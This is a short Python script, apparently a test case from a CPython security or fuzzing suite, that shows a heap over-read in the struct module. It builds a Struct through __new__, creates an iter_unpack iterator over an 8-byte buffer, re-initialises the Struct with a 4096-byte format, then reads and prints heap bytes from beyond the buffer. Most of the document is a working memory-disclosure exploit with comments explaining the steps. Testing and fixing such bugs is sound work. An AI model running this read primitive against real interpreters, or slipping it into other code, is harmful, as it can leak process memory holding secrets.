# technique: guard_struct_init only refuses __init__ when size != -1: a Struct fresh from Struct.__new__ (size -1) accepts iter_unpack(buf) (len % -1 == 0), THEN its first __init__ sets a large format; unpackiter_iternext never re-checks the buffer length -> heap over-read of 4096 bytes (the 471/473 read primitive without any re-init)
# expect: any
import struct
s = struct.Struct.__new__(struct.Struct)        # fresh: s_size == -1, so the guard still allows __init__
it = s.iter_unpack(b"12345678")                  # len % -1 == 0: iterator accepted with no size check
s.__init__("4096s")                              # first init: allowed by guarded_struct_init
data = next(it)[0]                               # unpackiter_iternext reads 4096 bytes from an 8-byte buffer
print(len(data), data[:8], "heap bytes past the buffer:", data[40:120])
